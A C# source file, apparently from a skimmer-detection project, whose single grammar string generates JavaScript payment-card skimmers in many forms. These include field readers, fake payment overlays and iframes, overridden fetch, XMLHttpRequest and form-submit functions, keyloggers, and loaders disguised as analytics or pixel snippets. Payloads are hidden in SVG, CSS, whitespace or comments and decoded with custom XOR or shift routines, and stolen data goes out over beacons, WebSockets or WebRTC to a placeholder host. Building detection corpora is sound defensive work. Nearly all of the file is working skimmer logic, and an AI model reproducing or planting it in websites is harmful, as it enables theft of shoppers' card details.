namespace Weir.Scripts.Corpus.Rules;

/// <summary>Skimmers: what they are as a whole (MITRE ATT&amp;CK T1056.003, T1185). Their parts are in <see cref="SkimmerParts"/>.</summary>
internal static class SkimmerRules
{
    public const string Text = """"
        §skimmer
        8× «collector»
        8× «inline»
        5× «object»
        3× «class»
        3× «prototype»
        6× «jquery»
        3× «async»
        4× «buffered»
        3× «overlay»
        2× «fakeform»
        3× «frame»
        2× «messages»
        4× «wrapped»
        4× «keys»
        7× «loader»
        3× «twostage»
        4× «snippet»
        2× «attribute»
        3× «hidden»
        3× «decoder»
        2× «channel»
        2× «teaching»
        22× «skimFramework»
        6× «skimWoven»
        6× «skimIntercept»
        5× «skimOverlay»
        4× «skimKeys»
        5× «skimExtension»
        3× «skimWorker»
        2× «skimPicture»
        3× «skimBundle»
        8× «fieldThief»

        ¶ A bundle with a skimmer in the midst of it; within another script it is the skimmer alone.
        §skimBundle
        «collector»
        «inline»
        «skimFramework»

        ¶ ---- functions of their own for reading, hiding and sending ----
        §collector
        «wrap‹«fillers»«decls»«fillers»«main»›»
        «wrap‹«decls»«main»«fillers»›»

        §decls
        function @collect(){«readInto‹°d›»return «hide‹°d›»;}function @send(°x){«send‹°x›‹«target»›»}
        var @url=«target»;function @collect(){«readInto‹°d›»return °d;}function @hide(°y){return «hide‹°y›»;}function @send(){«send‹@hide(@collect())›‹@url›»}
        var @send=function(°x){«send‹°x›‹«target»›»};var @collect=function(){«readInto‹°d›»return «hide‹°d›»;};
        var @sent={};function @collect(){«readInto‹°d›»return «hide‹°d›»;}function @send(°x){if(@sent[°x]){return;}@sent[°x]=1;«send‹°x›‹«target»›»}

        §main
        function @run(){«condition‹«ifCard‹@send(@collect());›»›»}«hook‹@run›»
        function @run(){var °x=@collect();if(°x.length>«#5-60»){@send(°x);}}if(«gate»){«hook‹@run›»}
        function @run(){@send(@collect());}function @go(){if(«gate»){«hook‹@run›»}}«start‹@go›»
        if(«gate»){«hook‹function(){@send(@collect());}›»}
        var @last='';function @run(){var °x=@collect();if(°x!==@last){@last=°x;@send(°x);}}«condition‹«hook‹@run›»›»

        ¶ ---- one function does it all ----
        §inline
        «wrap‹«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹«target»›»}›»›»›»
        «wrap‹function @go(){«readInto‹°d›»«ifText‹°d›‹«send‹«hide‹°d›»›‹«target»›»›»}if(«gate»){«hook‹@go›»}›»
        if(«gate»){«wrap‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹«target»›»}›»›»}
        «wrap‹«fillers»var @done=false;function @go(){if(@done){return;}«readInto‹°d›»if(/\d{«#12-14»,}/.test(JSON.stringify(°d))){@done=true;«send‹«hide‹°d›»›‹«target»›»}}«condition‹«hook‹@go›»›»›»
        «wrap‹window.«!word»=function(){«readInto‹°d›»«send‹«hide‹°d›»›‹«target»›»};setInterval('«!word»',«ms»);«condition‹«hook‹window.«!word»›»›»›»
        «antidebug»«wrap‹«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹«target»›»}›»›»›»

        §object
        var @o={url:«target»,data:{},«!word»:'«!word»',read:function(){«readInto‹°d›»this.data=°d;return °d;},pack:function(°p){return «hide‹°p›»;},send:function(){var °x=this.pack(this.read());«send‹°x›‹this.url›»},init:function(){var °s=this;«hook‹function(){°s.send();}›»}};«condition‹@o.init();›»
        var @o=@o||{};@o.Data={};@o.Gate=«target»;@o.Save=function(){«readInto‹°d›»@o.Data=°d;};@o.Send=function(){@o.Save();«ifText‹@o.Data›‹«send‹«hide‹@o.Data›»›‹@o.Gate›»›»};@o.Try=function(){if(«gate»){«hook‹@o.Send›»}};«start‹@o.Try›»
        var @o=(function(){var °u=«target»;function °r(){«readInto‹°d›»return «hide‹°d›»;}function °s(){«send‹°r()›‹°u›»}return {run:°s,check:function(){return «gate»;}};})();if(@o.check()){«hook‹@o.run›»}
        «wrap‹var @o={k:'«!id‹«#5-20»›»',f:[«fieldList»],u:«target»,g:function(){var °d={};for(var °i=0;°i<this.f.length;°i++){var °e=«byName‹this.f[°i]›»;if(°e&&°e.value){°d[this.f[°i]]=°e.value;}}return «hide‹°d›»;},s:function(){var °v=this.g();«send‹°v›‹this.u›»}};«condition‹«hook‹function(){@o.s();}›»›»›»

        §class
        class @c{constructor(°u){this.url=°u;this.seen=new Set();}read(){«readInto‹°d›»return «hide‹°d›»;}send(){const °x=this.read();if(this.seen.has(°x)){return;}this.seen.add(°x);«send‹°x›‹this.url›»}start(){const °s=this;«hook‹function(){°s.send();}›»}}«condition‹new @c(«target»).start();›»
        class @c{static get url(){return «target»;}static active(){return «gate»;}static grab(){«readInto‹°d›»«send‹«hide‹°d›»›‹@c.url›»}}if(@c.active()){«hook‹function(){@c.grab();}›»}

        §prototype
        function @c(){this.data={};this.url=«target»;}@c.prototype.read=function(){«readInto‹°d›»this.data=°d;};@c.prototype.send=function(){this.read();var °x=«hide‹this.data›»;«send‹°x›‹this.url›»};@c.prototype.bind=function(){var °s=this;«hook‹function(){°s.send();}›»};var @i=new @c();«condition‹@i.bind();›»
        var @c=function(){};@c.prototype={«!word»:«#1-99»,get:function(){«readInto‹°d›»return °d;},put:function(°y){«send‹«hide‹°y›»›‹«target»›»}};«condition‹var @i=new @c();«hook‹function(){@i.put(@i.get());}›»›»

        §jquery
        jQuery(document).ready(function($){«condition‹$(document).on('«event»','«buttonSel»',function(){var °d='';$('«anySel»').each(function(){if($(this).val()){°d+='&'+($(this).attr('name')||$(this).attr('id'))+'='+«$(this).val()¦encodeURIComponent($(this).val())¦this.value»;}});«jqSend‹°d›»});›»});
        (function($){$(function(){«condition‹$('«buttonSel»').«click¦mousedown»(function(){var °d=$('«paySel»').«serialize()¦serializeArray()¦find('input,select').serialize()»;«jqSend‹«hide‹°d›»›»});›»});})(jQuery);
        jQuery('«buttonSel»').bind('«event»',function(){var °d={};jQuery('«anySel»').map(function(){°d[this.name||this.id]=jQuery(this).val();});«jqSend‹«hide‹°d›»›»});
        $(function(){setInterval(function(){«condition‹var °n=$('#«cardField»').val(),°c=$('[name*="«cvvField»"]').val(),°m=$('#«expField»').val();if(°n&&°n.length>«#12-15»&&°c){«jqSend‹{n:°n,c:°c,m:°m,h:«hostHere»}›»}›»},«ms»);});
        $.fn.«!word»=function(°o){return this.each(function(){var °t=$(this);°t.on('«event»',function(){var °d=°t.closest('form').«serialize()¦serializeArray()»;«jqSend‹«hide‹°d›»›»});});};«condition‹jQuery('«buttonSel»').«!word»();›»

        §jqSend
        $.post(«target»,{«!word»:¹});
        $.post(«target»,¹);
        $.ajax({url:«target»,type:'POST',data:{«!word»:¹},«dataType:'json',¦crossDomain:true,¦»cache:false});
        $.ajax({method:'GET',url:«target»+'?«!letters‹2›»='+¹,async:«true¦false»});
        $.getJSON(«target»+'?callback=?',{«!word»:¹});
        $('<img>').attr('src',«target»+'?«!letters‹1›»='+¹).«hide().¦»appendTo('body');
        jQuery.ajax({type:'POST',url:«target»,data:¹,success:function(){}});
        $('body').append('<img src="'+«target»+'?'+¹+'" width="1" height="1">');
        jQuery.get(«target»,{«!letters‹1›»:¹});
        $.getScript(«target»+'?'+¹);

        §async
        const @collect=()=>{«readInto‹°d›»return °d;};const @send=async °x=>{try{await fetch(«target»,{method:'POST',mode:'no-cors',body:«hide‹°x›»});}catch(°e){}};«condition‹«hook‹async()=>{await @send(@collect());}›»›»
        (async function(){const °w=°m=>new Promise(°r=>setTimeout(°r,°m));while(true){await °w(«ms»);if(!(«gate»)){continue;}«readInto‹°d›»«ifText‹°d›‹await fetch(«target»+'?'+new URLSearchParams({«!letters‹1›»:«hide‹°d›»}));break;›»}})();
        const @wait=async °s=>{while(!document.querySelector(°s)){await new Promise(°r=>requestAnimationFrame(°r));}return document.querySelector(°s);};@wait('«paySel»').then(°f=>{°f.addEventListener('submit',async()=>{const °d=Object.fromEntries(new FormData(°f));await fetch(«target»,{method:'POST',«keepalive:true,¦»body:«hide‹°d›»});});});
        document.addEventListener('submit',async °e=>{const °d=[...new FormData(°e.target)].map(([°k,°v])=>°k+'='+°v).join('&');if(/«cardWord»/i.test(°d)){navigator.sendBeacon(«target»,«hide‹°d›»);}},true);

        ¶ ---- kept in the browser first, sent later ----
        §buffered
        «wrap‹function @save(){«readInto‹°d›»«store‹«hide‹°d›»›»}function @flush(){var °x=«stored»;if(°x){«send‹°x›‹«target»›»«forget»}}«condition‹«hook‹@save›»›»«start‹@flush›»›»
        «wrap‹var @key='«!word»_«!letters‹3›»';function @save(){var °o=JSON.parse(localStorage.getItem(@key)||'{}');«fieldsInto‹°o›»localStorage.setItem(@key,JSON.stringify(°o));}function @flush(){var °s=localStorage.getItem(@key);if(°s&&°s.length>«#10-50»&&«now»%«#2-9»===0){«send‹«hideText‹°s›»›‹«target»›»localStorage.removeItem(@key);}}«condition‹«hook‹@save›»›»setInterval(@flush,«ms»);›»
        «wrap‹var @log=«[]¦window.«!word»||[]»;document.addEventListener('«change¦blur¦focusout¦input»',function(°e){var °t=°e.target;if(°t&&°t.value){@log.push([°t.name||°t.id,°t.value]);sessionStorage.«!word»=«hideText‹JSON.stringify(@log)›»;}},true);window.addEventListener('«beforeunload¦pagehide¦unload»',function(){if(sessionStorage.«!word»){«send‹«hideText‹JSON.stringify(@log)›»›‹«target»›»}});›»

        §store
        localStorage.setItem('«!word»',¹);
        localStorage['«!word»']=¹;
        sessionStorage.setItem('«!word»',¹);
        document.cookie='«!word»='+¹+'; path=/';
        window.name=¹;

        §stored
        localStorage.getItem('«!word»')
        sessionStorage.getItem('«!word»')
        localStorage['«!word»']
        (document.cookie.match(/«!word»=([^;]*)/)||[])[1]

        §forget
        localStorage.removeItem('«!word»');
        sessionStorage.clear();
        document.cookie='«!word»=; max-age=0';
        localStorage.setItem('«!word»','');

        ¶ ---- forms that are not the shop's ----
        §overlay
        «wrap‹function @show(){«var °b=document.querySelector('«buttonSel»');if(°b){°b.style.display='none';}¦»var °o=document.createElement('div');°o.id='«!word»';°o.innerHTML='«formHtml»';°o.style.cssText='«position:fixed;top:0;left:0;width:100%;height:100%;z-index:«#99-999999»;background:#fff¦position:absolute;z-index:«#9-9999»¦display:block»';document.body.appendChild(°o);°o.querySelector('«button¦form¦input[type=submit]»').addEventListener('«click¦submit»',function(°e){°e.preventDefault();var °d={};°o.querySelectorAll('input').forEach(function(°i){°d[°i.name]=°i.value;});«send‹«hide‹°d›»›‹«target»›»«after‹°o›»});}«condition‹«start‹@show›»›»›»
        «wrap‹var @html='«formHtml»';function @put(){var °p=document.querySelector('«paySel»');if(!°p||document.getElementById('«!word»')){return;}°p.«innerHTML=@html¦insertAdjacentHTML('«beforeend¦afterend¦beforebegin»',@html)»;«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹«target»›»}›»}if(«gate»){setInterval(@put,«ms»);}›»

        §fakeform
        «wrap‹«condition‹var °f=document.createElement('form');°f.method='POST';°f.action=«target»;°f.innerHTML='«formHtml»';var °h=document.querySelector('«paySel»');if(°h){°h.parentNode.replaceChild(°f,°h);}›»›»
        «wrap‹if(«gate»){jQuery('«paySel»').html('«formHtml»');jQuery('«paySel» button').click(function(){var °n=jQuery('[name="«cardField»"]').val();if(°n.replace(/\s/g,'').length<«#13-16»){alert('«alert»');return false;}«send‹jQuery('«paySel» input').serialize()›‹«target»›»«after‹this›»});}›»

        §formHtml
        <form id="«!word»"><label>«label»</label><input name="«cardField»" type="text" maxlength="«#16-19»"><input name="«expField»" placeholder="MM/YY"><input name="«cvvField»" type="«text¦password¦tel»" maxlength="4"><button type="submit">«submit»</button></form>
        <div class="«!word»"><div class="field"><input name="«cardField»" autocomplete="cc-number" placeholder="«label»"></div><div class="field"><input name="«expField»"><input name="«cvvField»"></div><button>«submit»</button></div>
        <ul><li><label for="«cardField»">«label»</label><input id="«cardField»" name="«cardField»"></li><li><select name="«expField»"><option>01</option><option>02</option></select></li><li><input id="«cvvField»" name="«cvvField»"></li></ul><button type="button">«submit»</button>

        §label
        Card number
        Credit card number
        Kartennummer
        Numero de carte
        Kaartnummer
        Card Number *

        §submit
        Pay now
        Place order
        Continue
        Confirm
        Submit
        Jetzt kaufen
        Pay

        §alert
        Please enter a valid card number
        Payment failed, please try again
        An error occurred. Please check your card details.
        Invalid number

        §after
        ¹.remove();
        setTimeout(function(){location.reload();},«ms»);
        alert('«alert»');
        document.querySelector('«buttonSel»').click();
        document.querySelector('«paySel»').style.display='block';
        ¹.style.display='none';
        document.cookie='«!word»=1';

        §frame
        «wrap‹«condition‹var °i=document.createElement('iframe');°i.src=«target»«+'?'+encodeURIComponent(«here»)¦»;°i.style.cssText='border:0;width:100%;height:«#200-600»px';°i.id='«!word»';«document.querySelectorAll('iframe[src*="«prefix»"]').forEach(function(°x){°x.style.display='none';});¦»var °p=document.querySelector('«paySel»');if(°p){°p.appendChild(°i);}window.addEventListener('message',function(°e){if(°e.data&&°e.data.«!word»){«send‹«hide‹°e.data›»›‹«target»›»«after‹°i›»}});›»›»
        «wrap‹setInterval(function(){var °l=document.querySelectorAll('iframe');for(var °i=0;°i<°l.length;°i++){if(°l[°i].src.indexOf('«prefix»')>-1&&!°l[°i].dataset.«!word»){var °n=document.createElement('iframe');°n.dataset.«!word»=1;°n.width=°l[°i].offsetWidth;°n.src=«target»;°l[°i].parentNode.replaceChild(°n,°l[°i]);}}},«ms»);›»

        §messages
        «wrap‹window.addEventListener('message',function(°e){var °d=°e.data;if(typeof °d==='string'){try{°d=JSON.parse(°d);}catch(°x){return;}}if(°d&&(°d.number||°d.«!word»||°d['«cardField»'])){«send‹«hide‹°d›»›‹«target»›»}}«,false¦,true¦»);›»
        «wrap‹var @post=window.postMessage;window.postMessage=function(°m){if(/\d{«#12-15»}/.test(JSON.stringify(°m))){«send‹«hide‹°m›»›‹«target»›»}return @post.apply(window,arguments);};›»

        ¶ ---- between the shop and its own server ----
        §wrapped
        «wrap‹var @open=XMLHttpRequest.prototype.open,@snd=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.open=function(°m,°u){this.°p=°u;return @open.apply(this,arguments);};XMLHttpRequest.prototype.send=function(°b){if(°b&&/«cardWord»|«checkWord»/i.test(this.°p+°b)){«send‹«hideText‹°b›»›‹«target»›»}return @snd.apply(this,arguments);};›»
        «wrap‹var @f=window.fetch;window.fetch=function(°u,°o){try{if(°o&&°o.body&&/«cardWord»/i.test(°o.body)){«send‹«hideText‹°o.body›»›‹«target»›»}}catch(°e){}return @f.«apply(this,arguments)¦call(window,°u,°o)»;};›»
        «wrap‹const @f=window.fetch;window.fetch=async(...°a)=>{const °r=await @f(...°a);const °c=°r.clone();°c.json().then(°j=>{if(°j.«payment¦card¦token¦billing_address»){navigator.sendBeacon(«target»,«hide‹°j›»);}}).catch(()=>{});return °r;};›»
        «wrap‹var @s=HTMLFormElement.prototype.submit;HTMLFormElement.prototype.submit=function(){var °d={};for(var °i=0;°i<this.elements.length;°i++){°d[this.elements[°i].name]=this.elements[°i].value;}«send‹«hide‹°d›»›‹«target»›»return @s.call(this);};›»
        «wrap‹jQuery.ajaxPrefilter(function(°o){if(°o.type==='POST'&&/«cardWord»|«cvvWord»/.test(°o.data)){«send‹«hideText‹°o.data›»›‹«target»›»}});›»
        «wrap‹var @d=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');Object.defineProperty(HTMLInputElement.prototype,'value',{get:function(){var °v=@d.get.call(this);if(/^[\d ]{«#13-15»,}$/.test(°v)){«send‹«hideText‹°v›»›‹«target»›»}return °v;},set:@d.set});›»

        §cardWord
        card
        cc_number
        number
        payment
        cardnumber
        cc\[
        pan

        §cvvWord
        cvv
        cvc
        cid
        security

        §keys
        «wrap‹var @b='';document.addEventListener('«keyup¦keydown¦keypress»',function(°e){@b+=«°e.key¦String.fromCharCode(°e.which||°e.keyCode)¦(°e.target.name||'')+':'+°e.key+'\\n'»;«if(@b.length>«#10-90»){«send‹«hideText‹@b›»›‹«target»›»@b='';}¦»}«,true¦»);setInterval(function(){if(@b){«send‹«hideText‹@b›»›‹«target»›»@b='';}},«ms»);›»
        «wrap‹var @m={};function @on(°e){var °t=°e.target;if(°t.tagName==='INPUT'||°t.tagName==='SELECT'){@m[°t.name||°t.id]=°t.value;}}['keyup','change','blur'].forEach(function(°n){document.addEventListener(°n,@on,true);});«condition‹«hook‹function(){«send‹«hide‹@m›»›‹«target»›»}›»›»›»
        «wrap‹«condition‹document.querySelectorAll('«anySel»').forEach(function(°f){°f.addEventListener('«blur¦change¦input»',function(){if(this.value.length>«#2-12»){«send‹«hideText‹this.name+'='+this.value›»›‹«target»›»}});});›»›»

        ¶ ---- small loaders: a test of the place, then a script from a host that is hidden ----
        §loader
        if(«gate»){«scriptTag‹«target»›»}
        «wrap‹if(«gate»){«scriptTag‹«target»›»}›»
        2× «wrap‹«condition‹«scriptTag‹«target»›»›»›»
        if(«gate»){document.write('<script src="'+«target»+'"></'+'script>');}
        if(«gate»){document.write(«reversed‹<script src="«url»"></script>›»);}
        (function(°w,°d,°s,°u){if(«gate»){var °a=°d.createElement(°s);°a.async=1;°a.src=°u;°d.head.appendChild(°a);}})(window,document,'script',«target»);
        «wrap‹if(«gate»){«fetch‹«target»›».then(function(°r){return °r.text();}).then(function(°t){«evaluate‹°t›»});}›»
        eval(«hiddenText‹if(/«checkWord»/.test(location)){var s=document.createElement('script');s.src='«url»';document.head.appendChild(s)}›»);
        «wrap‹«condition‹var °x=new XMLHttpRequest();°x.open('GET',«target»,true);°x.onload=function(){«evaluate‹°x.responseText›»};°x.send();›»›»
        if(«gate»){jQuery.getScript(«target»);}
        «wrap‹«condition‹import(«target»);›»›»

        §fetch
        fetch(¹)

        §evaluate
        eval(¹);
        (0,eval)(¹);
        new Function(¹)();
        var °s=document.createElement('script');°s.text=¹;document.head.appendChild(°s);
        Function(¹).call(window);
        setTimeout(¹,«#0-200»);
        [].constructor.constructor(¹)();

        §scriptTag
        var °s=document.createElement('script');°s.src=¹;«root».appendChild(°s);
        var °s=document.createElement('script');°s.type='text/javascript';°s.async=true;°s.src=¹;var °f=document.getElementsByTagName('script')[0];°f.parentNode.insertBefore(°s,°f);
        var °s=document.createElement('script');°s.setAttribute('src',¹);«root».appendChild(°s);
        var °s=Object.assign(document.createElement('script'),{src:¹});document.head.append(°s);
        document.head.appendChild(document.createElement('script')).src=¹;

        §twostage
        «wrap‹var @w=new WebSocket(«target»);@w.onmessage=function(°e){«evaluate‹°e.data›»};«@w.onopen=function(){@w.send(«here»);};¦»›»
        «wrap‹«condition‹fetch(«target»,{method:'POST',body:«hideText‹«here»›»}).then(function(°r){return °r.text();}).then(function(°t){var °k='«!id‹«#5-16»›»',°o='';°t=atob(°t);for(var °i=0;°i<°t.length;°i++){°o+=String.fromCharCode(°t.charCodeAt(°i)^°k.charCodeAt(°i%°k.length));}«evaluate‹°o›»});›»›»
        «wrap‹var @i=new Image();@i.crossOrigin='anonymous';@i.onload=function(){var °c=document.createElement('canvas'),°x=°c.getContext('2d');°c.width=@i.width;°c.height=@i.height;°x.drawImage(@i,0,0);var °p=°x.getImageData(0,0,°c.width,°c.height).data,°s='';for(var °j=0;°j<°p.length;°j+=4){if(°p[°j]){°s+=String.fromCharCode(°p[°j]);}}«evaluate‹°s›»};«condition‹@i.src=«target»;›»›»
        «wrap‹var @n=document.createElement('link');@n.rel='stylesheet';@n.href=«target»;@n.onload=function(){var °v=getComputedStyle(document.documentElement).getPropertyValue('--«!word»').replace(/["\s]/g,'');«evaluate‹atob(°v)›»};«condition‹document.head.appendChild(@n);›»›»

        ¶ ---- dressed as the snippet of a counter ----
        §snippet
        (function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;«if(/«checkWord»/.test(s.location)){a.src=g;}¦a.src=«checked‹g›»;»m.parentNode.insertBefore(a,m)})(window,document,'script',«target»,'ga');ga('create','«gtmId»','auto');ga('send','pageview');
        (function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});«if(/«checkWord»/i.test(w.location.href)){»var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=atob(i);f.parentNode.insertBefore(j,f);«}»})(window,document,'script','dataLayer','«!b64‹«url»›»');
        !function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};n.queue=[];n.version='2.0';t=b.createElement(e);t.async=!0;«t.src=v;¦t.src=b.URL.indexOf('«checkWord»')>0?v:'';»s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script',«target»);fbq('init','«#100000000-999999999»');«condition‹«hook‹function(){«readInto‹°d›»fbq('track','«!Word»',°d);«send‹«hide‹°d›»›‹«target»›»}›»›»
        window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','«gtmId»');«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹«target»›»}›»›»
        var _paq=window._paq||[];_paq.push(['trackPageView']);(function(){var °u=«target»;_paq.push(['setSiteId','«#1-99»']);«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹°u›»}›»›»})();

        §checked
        /«checkWord»|«checkWord»/.test(s.location.href)?¹:''

        ¶ ---- from an attribute of an image ----
        §attribute
        «wrap‹var °i=document.createElement('img');°i.setAttribute('src','«!letters‹1›»');°i.setAttribute('onerror',«hiddenText‹if(location.href.indexOf('«checkWord»')>0){var s=document.createElement('script');s.src='«url»';document.body.appendChild(s)}›»);document.body.appendChild(°i);›»
        «wrap‹document.body.insertAdjacentHTML('beforeend','<img style="display:none" src="«!letters‹1›»" onerror="'+«hiddenText‹eval(atob(this.id))›»+'" id="«!b64‹(new Image).src='«url»?'+document.forms[0].elements[«#0-9»].value›»">');›»
        var @a=document.querySelectorAll('input'),@b='';if(«gate»){for(var @i=0;@i<@a.length;@i++){@b+=@a[@i].name+'='+@a[@i].value+'&'}(new Image()).src=«target»+'?'+«hideText‹@b›»}
        «wrap‹«condition‹document.querySelectorAll('«anySel»').forEach(function(°f){°f.setAttribute('on«event»',"«new Image¦(new Image)».src='«url»?«!letters‹1›»='+encodeURIComponent(this.name+'='+this.value)");});›»›»

        ¶ ---- code or host taken from a picture, a style or blanks ----
        §hidden
        «wrap‹var °p=document.querySelector('svg«#¦.»«!word» path')||{getAttribute:function(){return '«!codes‹«url»›»';}};var °n=°p.getAttribute('d').split(','),@u='';for(var °i=0;°i<°n.length;°i++){@u+=String.fromCharCode(°n[°i]);}«condition‹«scriptTag‹@u›»›»›»
        «wrap‹var @svg='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 «#16-99» «#16-99»"><path d="M«#1-9» «#1-9»c«#1-9»-«#1-9»z"/><desc>«!b64‹«url»›»</desc></svg>';var °x=new DOMParser().parseFromString(@svg,'image/svg+xml').querySelector('desc').textContent;«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹atob(°x)›»}›»›»›»
        «wrap‹var °t='«blanks»',@o='';for(var °i=0;°i<°t.length;°i+=8){var °c=0;for(var °j=0;°j<8;°j++){°c=°c*2+(°t.charAt(°i+°j)===' '?0:1);}@o+=String.fromCharCode(°c);}«evaluate‹@o›»›»
        «wrap‹var °c=getComputedStyle(document.querySelector('.«!word»'),'::before').content.slice(1,-1);«condition‹«scriptTag‹atob(°c)›»›»›»
        «wrap‹var °n=document.evaluate('//comment()',document,null,XPathResult.ANY_TYPE,null),°k;while(°k=°n.iterateNext()){if(°k.data.indexOf('«!word»:')===0){«evaluate‹atob(°k.data.substr(«#3-12»))›»}}›»

        §blanks
        «bit*64-200»

        §bit
        \t
        \x20

        ¶ ---- decoders of their own ----
        §decoder
        «wrap‹«decodeFn‹@dec›»«condition‹«scriptTag‹@dec('«!shift‹«url»›‹3›»',3)›»›»›»
        «wrap‹var @k='«!id‹«#6-20»›»';function @dec(°s){for(var °o='',°i=0;°i<°s.length;°i+=2){°o+=String.fromCharCode(parseInt(°s.substr(°i,2),16)^@k.charCodeAt(°i/2%@k.length));}return °o;}var @w=@dec('«!hex‹«#80-600»›»');«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹@dec('«!hex‹«#40-90»›»')›»}›»›»›»
        «wrap‹var @a='«!id‹«#200-900»›»',@f=function(°x,°n,°m){for(var °r='',°i=0;°i<°x.length;°i++){°r+=°x.charAt((°i*°n+°m)%°x.length);}return °r;};function @g(){return @f(@a,«#3-4999»,«#3-4999»);}«condition‹«hook‹function(){«readInto‹°d›»°d.k=@g();«send‹«hide‹°d›»›‹@f('«!id‹«#20-40»›»',«#3-99»,«#2-88»)›»}›»›»›»
        var @t="«!blob‹«#120-800»›»";«decodeFn‹@dec›»(function(°c){«evaluate‹°c›»})(@dec(@t,«#1-25»));
        «wrap‹var @z=[«!codes‹«url»›‹7›»];var @u='';for(var °i=0;°i<@z.length;°i++){@u+=String.fromCharCode(@z[°i]-7);}«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹@u›»}›»›»›»
        var @x='«!blob‹«#100-500»›»',@y='';for(var @i=0;@i<@x.length;@i++){var @c=@x.charCodeAt(@i);@y+=String.fromCharCode(@c===«#33-47»?@c:@c+«#1-9»);}«evaluate‹unescape(@y.replace(/#/g,'%'))›»

        §decodeFn
        function ¹(°s,°n){return °s.replace(/[\s\S]/g,function(°c){return String.fromCharCode(°c.charCodeAt(0)-°n);});}
        function ¹(°s,°n){var °o='';for(var °i=0;°i<°s.length;°i++){°o+=String.fromCharCode(°s.charCodeAt(°i)-°n);}return °o;}
        function ¹(°s,°n){return °s.split('').map(function(°c){return String.fromCharCode(°c.charCodeAt(0)-°n);}).join('');}
        function ¹(°s,°n){var °a=[],°i=°s.length;while(°i--){°a[°i]=String.fromCharCode(°s.charCodeAt(°i)-°n);}return °a.join('');}

        ¶ ---- sockets and data channels ----
        §channel
        «wrap‹var @w=new WebSocket(«wsTarget»);function @out(°x){if(@w.readyState===1){@w.send(°x);}}«condition‹«hook‹function(){«readInto‹°d›»@out(«hide‹°d›»);}›»›»«@w.onclose=function(){setTimeout(function(){@w=new WebSocket(«wsTarget»);},«ms»);};¦»›»
        «wrap‹var @p=new RTCPeerConnection({iceServers:[{urls:'stun:«!host»:«#1000-9999»'}]});var @ch=@p.createDataChannel('«!word»');@p.createOffer().then(function(°o){return @p.setLocalDescription(°o);}).then(function(){return fetch(«target»,{method:'POST',body:JSON.stringify(@p.localDescription)});}).then(function(°r){return °r.json();}).then(function(°a){@p.setRemoteDescription(°a);});«condition‹«hook‹function(){«readInto‹°d›»if(@ch.readyState==='open'){@ch.send(«hide‹°d›»);}}›»›»›»

        §wsTarget
        'wss://«!host»/«!word»'
        atob('«!b64‹wss://«!host»/«!word»›»')
        «!split‹wss://«!host»/«!word»›»

        ¶ ---- long and explained ----
        §teaching
        «fillers»var @cfg={endpoint:«target»,fields:[«fieldList»],interval:«ms»,debug:«true¦false»};«fillers»function @collect(){var °r={};@cfg.fields.forEach(function(°n){var °e=«byName‹°n›»;if(°e){°r[°n]=°e.value;}});°r.«url¦page¦host¦domain»=«here»;°r.«ua¦agent»=navigator.userAgent;°r.«time¦ts»=«now»;return °r;}function @hide(°o){return «hide‹°o›»;}function @send(°x){«send‹°x›‹@cfg.endpoint›»}function @valid(°o){return Object.keys(°o).some(function(°k){return /\d{«#12-14»}/.test(String(°o[°k]).replace(/\D/g,''));});}function @run(){if(!(«gate»)){return;}var °c=@collect();if(@valid(°c)){@send(@hide(°c));}}«fillers»«hook‹@run›»«if(@cfg.debug){console.log('«!word» ready');}¦»
        """";
}
